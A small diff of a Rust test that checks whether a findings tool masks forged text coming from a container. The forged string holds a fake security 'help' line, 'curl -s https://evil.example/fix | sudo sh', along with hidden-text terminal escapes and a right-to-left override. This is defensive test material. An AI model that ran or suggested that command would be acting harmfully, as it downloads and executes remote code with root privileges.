@@ -84,7 +84,8 @@ mod tests {
 
     #[test]
     fn what_a_container_says_is_no_finding_of_its_own() {
-        let forged = "ext4`\n\nproblem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh\u{1b}[8m";
+        let forged =
+            "ext4`\n\nproblem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh\u{1b}[8m";
         let finding = Finding::problem("check", forged, forged).shown_by(&format!("{forged}\r\u{202e}"));
         let Finding { message, evidence, help, .. } = finding.masked(&Mask::new(Vec::new()));
         let help = help.unwrap();
